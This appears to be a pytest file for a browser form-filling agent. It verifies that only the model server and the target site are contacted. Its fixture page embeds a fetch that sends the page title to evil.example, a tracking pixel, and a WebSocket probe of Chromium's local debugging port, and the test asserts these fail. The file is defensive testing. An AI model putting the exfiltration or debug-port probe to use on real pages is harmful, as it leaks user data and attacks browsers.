"""With T2 and T3 at work, nothing but the model's server and the site is ever asked: names, sockets, Chromium."""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page

from listing_worker.agents.form.by_recipe import fill
from listing_worker.agents.form.form import Form
from listing_worker.agents.heal.healer import TieredHealer
from listing_worker.agents.heal.memory import forget
from listing_worker.agents.recipe import Fill, Planned, at, css
from listing_worker.models import FieldReport
from tests.agents.heal.driven import for_the_agent, index_of, step, with_port
from tests.agents.heal.test_one_call import answer
from tests.agents.heal.watching import read_net_log, watching
from tests.fixtures.model_server import ModelServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# Nothing names the field, so neither T1 nor T2 finds it; the page tries by itself to tell others.
FORM = """<title>Sell</title><h1>Qwert</h1><button onclick="rest.hidden=false">Zuiop</button>
<div id=rest hidden><div><b>Asdfg</b><input id=t></div></div>
<script>
  fetch('https://evil.example/?' + document.title).catch(() => {});
  new Image().src = 'https://tracker.example/pixel.gif';
  window.tried = port => new Promise(done => {
    const socket = new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser');
    socket.onopen = () => done('open'); socket.onerror = () => done('refused');
  });
</script>"""
STEPS = (Fill(field="title", at=at(css("#gone")), timeout=1_500),)
PLAN = [Planned("title", "Silk dress", meaning="the title")]


@pytest.mark.slow
def test_nothing_but_the_model_and_the_site_is_asked(
    chromium_path: Path, model_server: ModelServer, tmp_path: Path
) -> None:
    forget()
    turns = iter([
        lambda r: step(press={"index": index_of(r, "Zuiop")}),
        lambda r: step(point_at_field={"index": index_of(r, "<input")}),
    ])  # fmt: skip
    model_server.answers(lambda r: next(turns)(r) if for_the_agent(r) else answer(title="none"))
    log = tmp_path / "net.json"

    async def scenario(page: Page, cdp_url: str) -> tuple[list[FieldReport], Any]:
        healer = TieredHealer(None, model_server.model())
        healer.cdp_url, healer.hosts = cdp_url, ("market.test",)
        reports = await fill(Form(page, PLAN, healer=healer), STEPS)
        port = cdp_url.split(":")[2].partition("/")[0]
        return reports, await page.evaluate("port => window.tried(port)", port)

    with watching() as watched:
        reports, debugger = with_port(
            chromium_path,
            tmp_path / "profile",
            FORM,
            scenario,
            hosts=("market.test",),
            more=(f"--log-net-log={log}", "--net-log-capture-mode=Default"),
        )
    assert [(one.field, one.same, one.found_by[:2]) for one in reports] == [("title", True, "T3")]
    assert [for_the_agent(request) for request in model_server.requests] == [False, True, True]
    assert debugger == "refused"  # a page cannot reach the debugging port
    assert watched.outside == set()
    port = model_server.url.split(":")[2].partition("/")[0]
    assert f"127.0.0.1:{port}" in watched.sockets | watched.addresses  # it does see
    seen = read_net_log(log)
    assert any("evil.example" in one for one in seen.asked)  # the log does see what was tried …
    assert {one.rpartition(":")[0] for one in seen.connected} <= {"127.0.0.1", "[::1]"}  # … and that nobody was reached


def test_the_watch_sees_names_and_sockets() -> None:
    with socket.socket() as server, watching() as watched:
        server.bind(("127.0.0.1", 0))
        server.listen()
        with socket.create_connection(server.getsockname()), pytest.raises(OSError, match=r".*"):
            socket.getaddrinfo("evil.invalid", 443)
    assert watched.outside == {"evil.invalid"}
    assert any(one.startswith("127.0.0.1:") for one in watched.addresses)
